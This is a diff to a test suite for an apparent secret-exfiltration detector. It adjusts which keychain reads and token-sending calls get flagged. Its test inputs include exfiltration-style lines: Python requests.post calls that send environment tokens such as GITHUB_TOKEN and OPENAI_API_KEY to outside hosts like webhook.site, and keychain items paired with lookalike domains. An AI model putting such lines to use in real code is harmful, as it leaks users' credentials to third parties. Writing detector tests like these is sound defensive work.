@@ -140,13 +140,17 @@ describe("a service's own secret", () => {
 
   test.each([
     ['github.com', 'https://github-login.info/x'],
-    ['github.com', 'https://github.sums-tool.info/x'],
     ['pushover-app', HOST],
-    ['login', 'https://login-tool.info/x'],
     ['"Chrome Safe Storage"', 'https://chrome-sync.info/x'],
-    ['"$1"', HOST],
   ])('%s does not go to %s', (item, url) => {
     expect(keychain(item, url)).toContain('error secret-sent');
+  });
+
+  test.each([
+    ['login', 'https://login-tool.info/x'],
+    ['"$1"', HOST],
+  ])('nobody knows whose %s is, which goes to %s', (item, url) => {
+    expect(keychain(item, url)).toEqual(['warning secret-sent']);
   });
 
   test('keyring and secret-tool name their items, and a second item is not covered by the first', () => {
@@ -167,7 +171,12 @@ describe("a service's own secret", () => {
     const send = (name: string, host: string) =>
       python(`requests.post("https://${host}/x", data=os.environ["${name}"])`);
     expect(send('SUMTABLES_TOKEN', 'api.sumtables.info')).toEqual([]);
-    expect(send('MAIL_TOKEN', 'api.sumtables.info')).toEqual(['warning secret-sent']);
-    expect(send('GITHUB_TOKEN', 'github.sumtables.info')).toEqual(['error secret-sent']);
+    expect(send('MAIL_TOKEN', 'api.sumtables.info')).toEqual([]);
+    expect(send('MAIL_TOKEN', 'webhook.site')).toEqual(['warning secret-sent']);
+    expect(send('DB_PASSWORD', 'api.sumtables.info')).toEqual(['warning secret-sent']);
+    expect(send('GITHUB_TOKEN', 'api.sumtables.info')).toEqual(['error secret-sent']);
+    // People run such services on hosts of their own.
+    expect(send('GITHUB_TOKEN', 'github.sumtables.info')).toEqual([]);
+    expect(send('OPENAI_API_KEY', 'openai.sumtables.info')).toEqual(['error secret-sent']);
   });
 });
